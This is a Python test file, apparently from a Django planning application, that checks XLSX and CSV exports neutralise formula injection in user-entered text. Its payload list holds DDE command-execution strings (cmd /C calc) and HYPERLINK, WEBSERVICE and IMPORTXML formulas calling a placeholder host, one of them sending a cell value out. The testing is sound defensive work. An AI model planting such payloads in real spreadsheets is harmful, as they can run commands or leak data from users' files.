"""Rule 13: what people typed leaves as text, never as a formula, and comes back the same."""

import csv
import io
import re
import zipfile
from datetime import date
from typing import Any

import openpyxl
import pytest

from nucleo.hojas import Columna, Hoja, escribir_xlsx
from nucleo.hojas.escritura import escribir_csv
from poa.consultas import con_la_hoja, datos_de
from poa.formatos import leer_excel
from poa.models import ElementoFODA, Estrategia, Inversion, LineaDeAccion, Programa
from poa.pasos import pasos_registrados

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("en_hoy")]
PRINCIPIOS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "=\t", "%0A=", "＝", "|", "/")
CUERPOS = (
    "1+1",
    'HYPERLINK("http://ejemplo.invalid?x="&A1,"ver")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://ejemplo.invalid")',
    "SUM(A1:A9)*cmd|'/c calc'!A0",
    'IMPORTXML("http://ejemplo.invalid","//a")',
    'DDE("cmd";"/C calc";"x")',
)
CARGAS = [p + c for p in PRINCIPIOS for c in CUERPOS] + [
    "http://ejemplo.invalid",
    "1e5",
    "2024-01-01",
    "TRUE",
    "#REF!",
]
VIVA = re.compile(rb"<(?:\w+:)?f[ >]")
QUE = "fórmulas vivas en lo que se exporta"


def vivas(libro: bytes) -> list[str]:
    """Cells with a formula, links to the outside, or a part that runs."""
    halladas = []
    with zipfile.ZipFile(io.BytesIO(libro)) as partes:
        for nombre in partes.namelist():
            parte = partes.read(nombre)
            if nombre.startswith("xl/worksheets/") and (VIVA.search(parte) or b"<hyperlink" in parte):
                halladas.append(nombre)
            if re.search(r"externalLink|vbaProject|connections", nombre):
                halladas.append(nombre)
    return halladas


def _llenar(programa_id: int, carga: str) -> None:
    """That text in every text of the POA."""
    bloques = Estrategia.objects.filter(programa_id=programa_id)
    texto = dict.fromkeys(("encabezado", "vision", "mision", "objetivo", "evaluador"), carga)
    Programa.objects.filter(pk=programa_id).update(**texto, responsable_nombre=carga, responsable_cargo=carga)
    ElementoFODA.objects.filter(programa_id=programa_id).update(texto=carga)
    bloques.update(nombre=carga, metas=carga, beneficiados_directos=carga, beneficiados_indirectos=carga)
    lineas = LineaDeAccion.objects.filter(estrategia__in=bloques)
    lineas.update(texto=carga, unidad_de_medida=carga[:60], medio_de_verificacion=carga)
    Inversion.objects.filter(estrategia__in=bloques).update(concepto=carga)


def _textos(datos: dict[str, Any]) -> list[str]:
    bloques = [t for b in datos["bloques"] for t in (b["nombre"], *(linea["texto"] for linea in b["lineas"]))]
    return [" ".join(t.split()) for t in (datos["vision"], datos["objetivo"], *datos["fortalezas"], *bloques)]


def test_the_workbook_of_a_poa_has_no_formula_and_comes_back_the_same(doble, cliente_doble, cifra, tamano):
    cliente, pk, malas = cliente_doble("directora_a"), doble.a.borrador, []
    elegidas = CARGAS[:: tamano(6, 1)]
    for carga in elegidas:
        _llenar(pk, carga)
        libro = cliente.get(f"/poas/{pk}/poa.xlsx").content
        malas += [f"{carga!r}: {v}" for v in vivas(libro)]
        hojas = openpyxl.load_workbook(io.BytesIO(libro))
        celdas = [celda.value for hoja in hojas for fila in hoja.iter_rows() for celda in fila]
        if "\r" not in carga:  # nobody can keep one: it is cleaned as it is typed
            assert celdas.count(carga) >= 15, repr(carga)
            leido = leer_excel(libro, ejes=["Eje 1: Servicios"], pasos=pasos_registrados()).datos
            assert _textos(leido) == _textos(datos_de(con_la_hoja().get(pk=pk)))
    cifra(13, QUE, len(malas), de=len(elegidas))
    assert malas == []


def test_no_cell_of_a_csv_is_a_formula_and_it_comes_back_the_same(cifra):
    fuera = escribir_csv(CARGAS, [[carga, 1, None, date(2024, 1, 1)] for carga in CARGAS])
    filas = list(csv.reader(io.StringIO(fuera.decode("utf-8-sig"), newline="")))
    celdas = [*filas[0], *(fila[0] for fila in filas[1:])]
    vivas_ = [c for c in celdas if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    cifra(13, QUE, len(vivas_), de=len(celdas))
    assert vivas_ == []
    devueltas = [c[1:] if c[:2] in {"'=", "'+", "'-", "'@", "'\t", "'\r"} else c for c in filas[0]]
    assert [d for d, c in zip(devueltas, CARGAS, strict=True) if d not in {c, c.removeprefix("'")}] == []


def test_control_a_formula_is_seen():
    libro = openpyxl.Workbook()
    libro.active["A1"] = "=1+1"
    salida = io.BytesIO()
    libro.save(salida)
    assert vivas(salida.getvalue()) != []
    assert vivas(escribir_xlsx([Hoja("x", [Columna("=1+1")], [("=1+1",)])])) == []
